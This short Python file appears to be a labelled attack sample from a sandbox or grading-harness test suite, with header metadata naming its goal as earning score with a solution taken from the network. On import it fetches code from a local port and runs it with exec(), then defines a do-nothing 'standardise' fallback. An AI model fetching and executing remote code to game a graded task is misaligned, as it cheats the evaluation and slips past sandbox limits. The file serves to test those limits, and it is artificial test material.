"""Downloads the solution while it is imported."""
# /// attack
# class = 17
# goal = "earn points with a solution from the network"
# gain = "score"
# outcome = "failed"
# naive = true
# gvisor = true
# ///

import urllib.request

source = ""
try:
    source = urllib.request.urlopen("http://127.0.0.1:@TCP@/work.py", timeout=0.3).read().decode()
except OSError as error:
    print(error)
exec(source)

if "standardise" not in globals():

    def standardise(x):
        return x
